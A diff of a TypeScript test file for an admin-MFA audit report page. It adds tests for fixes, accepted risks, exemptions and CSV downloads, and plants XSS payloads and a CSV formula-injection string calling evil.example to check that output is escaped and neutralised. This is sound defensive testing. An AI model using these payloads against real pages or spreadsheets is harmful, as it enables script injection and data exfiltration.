@@ -11,10 +11,18 @@ import { parseTenantFixtureText } from '../../devkit/fixture/format.js';
 import type { Report, Verdict } from '../../src/core/report.js';
 import { gapWords, jsonForScript, scriptText } from '../../src/report/format.js';
 import { type ChartData, chartData, renderReportPage } from '../../src/report/render.js';
+import { type Acknowledgement, applyAcknowledgements, materialKeys } from '../../src/core/acceptance.js';
+import { reportNumbers } from '../../src/core/numbers.js';
+import { proposeRemediation } from '../../src/core/remediation.js';
+import { toCsv } from '../../src/report/csv.js';
+import { exportTables } from '../../src/report/export.js';
 
 const NONCE = 'dGVzdC1ub25jZS0xMjM0NQ==';
 const XSS_NAME = '<img src=x onerror=alert(1)>';
+const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Carlos")';
+const XSS_REASON = '<script>alert("reason")</script> accepted';
 const XSS_POLICY = '<script>alert("policy")</script> CA001';
+const XSS_GROUP = '<svg onload=alert(4)> SG-Migration';
 const XSS_LABEL = '</script><script>alert(2)</script>\u2028<!--';
 const CHART_STUB = '/* chart.js stand-in */ window.Chart = undefined; var s = "</script><script>alert(3)</script>";';
 const NOW = '2026-11-25T10:05:00Z';
@@ -28,13 +36,27 @@ function demoReport(): Report {
   const victim = json.users.find((u) => u.userPrincipalName === 'svc-exo-automation@contoso-demo.example');
   if (!victim) throw new Error('demo fixture changed: svc-exo-automation is gone');
   victim.displayName = XSS_NAME;
+  const formula = json.users.find((u) => u.userPrincipalName === 'carlos.ruiz@contoso-demo.example');
+  if (!formula) throw new Error('demo fixture changed: carlos.ruiz is gone');
+  formula.displayName = FORMULA_NAME;
   const policy = json.conditionalAccessPolicies.find((p) => String(p.displayName).startsWith('CA001'));
   if (!policy) throw new Error('demo fixture changed: CA001 is gone');
   policy.displayName = XSS_POLICY;
+  const group = (json.groups as Json[]).find((g) => g.displayName === 'SG-Migration-ServiceAccounts');
+  if (!group) throw new Error('demo fixture changed: SG-Migration-ServiceAccounts is gone');
+  group.displayName = XSS_GROUP;
   const fixture = parseTenantFixtureText(JSON.stringify(json), 'demo-tenant.json');
   const snapshot = snapshotFromFixture(fixture, json.referenceTime);
   const excludedAccounts = (json.settings.MONITOR_EXCLUDED_ACCOUNTS ?? '').split(',').map((s) => s.trim()).filter(Boolean);
-  return evaluate(snapshot, { ...DEFAULT_EVALUATION_OPTIONS, adminRoles: { mode: 'core', roleIds: [] }, excludedAccounts, now: NOW });
+  const options = { ...DEFAULT_EVALUATION_OPTIONS, adminRoles: { mode: 'core' as const, roleIds: [] }, excludedAccounts, now: NOW };
+  const report = evaluate(snapshot, options);
+  // As the app serves it: with an accepted risk, the verified fixes and the one set of numbers.
+  const accepted = report.findings.find((f) => f.type === 'admin-unprotected') as Report['findings'][number];
+  const ack: Acknowledgement = { fingerprint: accepted.fingerprint, type: accepted.type, subjectId: accepted.subjectId, subjectName: accepted.subjectName ?? null, reason: XSS_REASON, owner: XSS_NAME, acceptedBy: 'alice@contoso-demo.example', acceptedAt: NOW, until: '2026-12-31T00:00:00.000Z', material: materialKeys(accepted, report) };
+  applyAcknowledgements(report, [ack], NOW);
+  report.remediation = proposeRemediation(snapshot, options, report);
+  report.numbers = reportNumbers(report);
+  return report;
 }
 
 function trend(n: number): TrendPoint[] {
@@ -84,6 +106,7 @@ function model(report: Report, overrides: Partial<ReportPageModel> = {}): Report
       { collector: 'evaluate', status: 'succeeded', endedAt: '2026-11-25T10:01:00Z', error: null },
     ],
     days: 30,
+    graphBaseUrl: 'https://graph.microsoft.com',
     ...overrides,
   };
 }
@@ -160,20 +183,23 @@ describe('report page content (demo tenant)', () => {
       expect(section).toContain(`data-admin="${a.id}"`);
     }
     for (const a of report.admins.filter((x) => x.verdict === 'unprotected')) {
-      const words = gapWords(a.gaps[0]?.summary ?? '');
-      expect(words.headline).toMatch(/^No enabled policy requires MFA/);
-      expect(section).toContain(escaped(words.headline));
-      expect(section).toContain(escaped(words.reasons[0] ?? '').replace(/^p/, 'P'));
+      // R-EXPLAIN-1: the short headline, and the first reasons of the full list.
+      const gap = a.gaps[0];
+      expect(gap?.headline).toMatch(/^No enabled policy requires MFA/);
+      expect(section).toContain(escaped(gap?.headline ?? ''));
+      expect(section).toContain(escaped(gap?.reasons?.[0] ?? '').replace(/^p/, 'P'));
     }
     expect(section).not.toContain('data-admin="' + report.admins.find((x) => x.verdict === 'protected')?.id);
   });
 
-  it('shows every gap and its reasons in the admins table', () => {
+  it('shows every gap and every one of its reasons in the admins table (R-EXPLAIN-2: nothing dropped)', () => {
     for (const a of report.admins) {
       for (const g of a.gaps) {
-        const w = gapWords(g.summary);
-        expect(html).toContain(escaped(w.headline));
-        for (const r of w.reasons) expect(html).toContain(escaped(r.charAt(0).toUpperCase() + r.slice(1)));
+        expect(html).toContain(escaped(g.headline ?? ''));
+        for (const r of g.reasons ?? []) expect(html).toContain(escaped(r.charAt(0).toUpperCase() + r.slice(1)));
+        // The summary's "N more" are in the list too.
+        const more = Number(/; (\d+) more[;)]/.exec(g.summary)?.[1] ?? 0);
+        expect(g.reasons?.length ?? 0).toBeGreaterThanOrEqual(more);
       }
     }
   });
@@ -190,6 +216,22 @@ describe('report page content (demo tenant)', () => {
     expect(html).toContain('id="alerts-table"');
     expect(html).toMatch(/Sign-ins<\/b>[\s\S]*?class="badge failed">Failed/);
     expect(html).toContain('Some data is missing or out of date');
+  });
+
+  it('shows an Exemptions section: each exclusion with its controllers and their verdicts; each admin row links to the exclusions that reach it', () => {
+    const section = /<section id="exemptions"[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
+    expect(section).toContain('<h2 id="exemptions-h">Exemptions');
+    for (const x of report.exemptions?.exclusions ?? []) expect(section).toContain(`data-exclusion="${escaped(x.key)}"`);
+    // The owner of CA-Exclude-ServiceAccounts who is not protected, with the badge of their verdict.
+    const card = new RegExp(`<div class="card pad" id="exemption-group_[^"]*" data-exclusion="group:[^"]*">\\s*<h3>Group: CA-Exclude-ServiceAccounts[\\s\\S]*?</div>\\n?</div>`).exec(section)?.[0] ?? section;
+    expect(card).toMatch(/svc-exo-automation@contoso-demo\.example<\/b>[\s\S]*?class="badge unprotected">/);
+    expect(card).toContain('client secret');
+    expect(section).toContain('id="policy-editors"');
+    // The break-glass account's row links to the exclusion group it is in now.
+    const bg = report.admins.find((a) => a.userPrincipalName === 'breakglass-01@contoso-demo.example');
+    const row = new RegExp(`<tr id="admin-${bg?.id}"[\\s\\S]*?</tr>`).exec(html)?.[0] ?? '';
+    expect(row).toMatch(/<a href="#exemption-group_[^"]+">Group CA-Exclude-BreakGlass<\/a> <span class="tag permanent">excluded now<\/span>/);
+    expect(html).toContain('<a href="#exemptions">Exemptions');
   });
 
   it('has a labelled filter with one chip per verdict and accessible charts', () => {
@@ -221,19 +263,22 @@ describe('report page safety', () => {
     expect(html).not.toContain('alert("policy")</script>');
     expect(html).toContain(escaped(XSS_NAME));
     expect(html).toContain(escaped(XSS_POLICY));
+    expect(html).not.toContain('<svg onload');
+    expect(html).toContain(escaped(XSS_GROUP));
     expect(html).not.toContain('<b>evil</b>');
     expect(html).not.toContain('<i><img');
   });
 
-  it('puts the nonce on every <script> and <style>, and has exactly the three scripts and one style it means to', () => {
+  it('puts the nonce on every <script> and <style>, and has exactly the five scripts and one style it means to', () => {
     const t = tags(html);
     const scripts = t.filter((x) => x.name === 'script');
     const styles = t.filter((x) => x.name === 'style');
-    expect(scripts).toHaveLength(3);
+    // Chart data, download rows, Chart.js, the CSV function, the page's own script.
+    expect(scripts).toHaveLength(5);
     expect(styles).toHaveLength(1);
     for (const s of [...scripts, ...styles]) expect(s.attrs).toContainEqual(['nonce', NONCE]);
     // The stand-in bundle says "</script>" in a string: it must not end its element early.
-    expect(html.match(/<\/script>/g)).toHaveLength(3);
+    expect(html.match(/<\/script>/g)).toHaveLength(5);
     expect(html).toContain('<\\/script><script>alert(3)<\\/script>');
   });
 
@@ -283,5 +328,82 @@ describe('gap wording', () => {
   it('keeps a summary without a reason list whole', () => {
     expect(gapWords('no MFA when signing in to Office 365 (Exchange Online)')).toEqual({ headline: 'No MFA when signing in to Office 365 (Exchange Online)', reasons: [], more: 0 });
     expect(gapWords('no MFA at sign-in risk low')).toEqual({ headline: 'No MFA at sign-in risk low', reasons: [], more: 0 });
+  });
+});
+
+describe('report page: fixes, accepted risks, downloads (issue 18)', () => {
+  it('lists every chosen fix with its exact request in a copyable block, escaped', () => {
+    const section = /<section id="fixes"[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
+    const chosen = report.remediation?.proposals.filter((p) => p.closes.length > 0) ?? [];
+    expect(chosen.length).toBeGreaterThan(0);
+    for (const p of chosen) {
+      expect(section).toContain(`id="${p.id}"`);
+      for (const [i, r] of p.requests.entries()) {
+        expect(section).toContain(`data-copy="req-${p.id}-${i}"`);
+        expect(section).toContain(`<pre id="req-${p.id}-${i}"><code>${escaped(`${r.method} https://graph.microsoft.com/v1.0${r.path}`)}`);
+      }
+    }
+    expect(section).toContain(escaped(XSS_POLICY));
+    expect(section).not.toContain(XSS_POLICY);
+    // Every gap with a fix links to it.
+    for (const a of report.admins) for (const g of a.gaps) if (g.fix?.proposalId) expect(html).toContain(`href="#${g.fix.proposalId}"`);
+  });
+
+  it('shows accepted risks apart: not in the open findings, listed with owner, expiry and reason, escaped', () => {
+    const ack = report.acknowledgements?.[0];
+    expect(ack?.state).toBe('active');
+    const accepted = /<section id="accepted"[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
+    expect(accepted).toContain(`data-ack="${ack?.fingerprint}"`);
+    expect(accepted).toContain(escaped(XSS_REASON));
+    expect(accepted).not.toContain(XSS_REASON);
+    const findings = /<section id="findings"[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
+    expect(findings).not.toContain(`id: ${ack?.fingerprint}`);
+    expect(findings).toContain(`<span class="count">${report.numbers?.findings.open}</span>`);
+  });
+
+  it('embeds the download rows safely, and their CSV neutralises formulas', () => {
+    const m = /<script type="application\/json" id="export-data" nonce="[^"]*">([\s\S]*?)<\/script>/.exec(html);
+    const data = JSON.parse(m?.[1] ?? '{}') as Record<string, { columns: string[]; rows: Array<Record<string, unknown>> }>;
+    expect(Object.keys(data)).toEqual(['admins', 'gaps', 'findings', 'exemptions']);
+    expect(data.admins?.rows).toHaveLength(report.admins.length);
+    expect(data.gaps?.rows).toHaveLength(report.admins.reduce((n, a) => n + a.gaps.length, 0));
+    expect(m?.[1]).not.toContain('<script>');
+    const csv = toCsv(data.admins?.columns ?? [], data.admins?.rows ?? []);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Carlos"")"`);
+    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
+    // The page's script runs this same function.
+    expect(html).toContain(`var toCsv = ${scriptText(toCsv.toString())};`);
+  });
+
+  it('exemptions: every policy exclusion of an admin (R-EXCL-3), every break-glass account (R-EXCL-1) and every accepted risk', () => {
+    const rows = exportTables(report).find((t) => t.name === 'exemptions')?.rows ?? [];
+    const kinds = (kind: string) => rows.filter((r) => r.kind === kind);
+    const exclusions = [...report.admins, ...report.potentialAdmins].flatMap((a) => (a.exclusions ?? []).map((x) => ({ a, x })));
+    expect(exclusions.length).toBeGreaterThan(0);
+    expect(kinds('policy exclusion')).toHaveLength(exclusions.length);
+    // Each says how, as the gap reasons do, and names the policy.
+    for (const { a, x } of exclusions) expect(rows).toContainEqual(expect.objectContaining({ kind: 'policy exclusion', subjectId: a.id, policyId: x.policyId, detail: x.how }));
+    expect(kinds('policy exclusion').every((r) => String(r.detail).startsWith('excludes '))).toBe(true);
+    expect(kinds('break-glass account').map((r) => r.subjectId).sort()).toEqual(report.admins.filter((a) => a.verdict === 'excluded').map((a) => a.id).sort());
+    expect(kinds('break-glass account').length).toBeGreaterThan(0);
+    expect(kinds('accepted risk')).toEqual([expect.objectContaining({ fingerprint: report.acknowledgements?.[0]?.fingerprint, reason: XSS_REASON, owner: XSS_NAME, state: 'active' })]);
+  });
+});
+
+describe('R-EXCL-3 exclusions per admin', () => {
+  it('names the enabled MFA policies that exclude an admin, with the role state and how', () => {
+    // The demo's break-glass accounts are excluded from the admins' policies through their group.
+    const excluded = report.admins.filter((a) => a.verdict === 'excluded');
+    expect(excluded.length).toBeGreaterThan(0);
+    for (const a of excluded) {
+      expect(a.exclusions?.length, a.userPrincipalName ?? a.id).toBeGreaterThan(0);
+      for (const x of a.exclusions ?? []) {
+        const policy = report.policies.find((p) => p.id === x.policyId);
+        expect(policy?.state).toBe('enabled');
+        expect(x.how).toMatch(/^excludes /);
+      }
+    }
+    // An admin nothing excludes has none.
+    expect(report.admins.some((a) => a.verdict === 'protected' && a.exclusions?.length === 0)).toBe(true);
   });
 });
